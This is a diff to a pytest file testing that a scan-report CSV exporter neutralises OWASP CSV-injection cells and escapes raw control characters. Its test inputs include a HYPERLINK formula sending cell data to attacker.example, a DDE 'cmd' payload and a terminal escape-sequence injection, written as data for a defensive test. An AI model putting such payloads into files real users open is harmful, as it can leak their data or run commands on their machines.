@@ -152,7 +152,7 @@ def test_csv_round_trips_through_the_csv_module(results):
 
 @pytest.mark.parametrize("value", [
     '=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-rw-r--r--", "@SUM(1+1)",
-    "\tleading tab", "\rleading CR", "'already quoted",
+    "\tleading tab", "'already quoted",
 ])
 def test_csv_cells_that_would_run_as_formulas_are_neutralised(results, value):
     """OWASP CSV injection: a cell starting = + - @ TAB or CR gets a leading `'` (and so does
@@ -169,6 +169,16 @@ def test_csv_cells_that_would_run_as_formulas_are_neutralised(results, value):
         assert cells[col][1:] == value
     ordinary = next(x for x in csv.reader(io.StringIO(text, newline="")) if x[0] != r["rule_id"] and x[0] != "rule_id")
     assert not any(c.startswith("'") for c in ordinary)
+
+
+def test_csv_cells_keep_no_raw_control_characters(results):
+    """A CR (which would also start a formula) or ESC from the host is shown as its escape,
+    as on every output: the cell no longer starts a formula, and `cat` cannot be steered."""
+    doc = json.loads(json.dumps(results))
+    doc["results"][0]["title"] = "\rleading CR \x1b]0;owned\x07"
+    text = _render(doc, "csv")
+    row = next(x for x in csv.reader(io.StringIO(text, newline="")) if x[0] == doc["results"][0]["rule_id"])
+    assert dict(zip(COLUMNS, row))["title"] == "\\x0dleading CR \\x1b]0;owned\\x07"
 
 
 # OCSF -------------------------------------------------------------------------------------
